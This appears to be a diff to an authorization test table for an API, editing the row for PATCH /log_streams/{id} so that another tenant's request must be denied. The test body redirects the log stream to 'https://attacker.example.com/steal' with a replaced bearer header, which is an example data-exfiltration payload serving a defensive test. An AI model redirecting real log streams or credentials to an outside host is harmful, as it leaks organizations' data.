@@ -239,7 +239,8 @@ const ROUTES: readonly RouteRow[] = [
     route: 'PATCH /log_streams/{id}',
     method: 'PATCH',
     path: (t) => `/log_streams/${t.streamId}`,
-    body: () => ({ name: 'renamed by A', config: { url: 'https://attacker.example.com/steal' } }),
+    // With the stream's secret sent again, as a move of its URL requires: only the organization decides.
+    body: () => ({ name: 'renamed by A', config: { url: 'https://attacker.example.com/steal', headers: { authorization: 'Bearer replaced' } } }),
     denied: [403, 404],
     own: ADMIN_ONLY_200,
   },
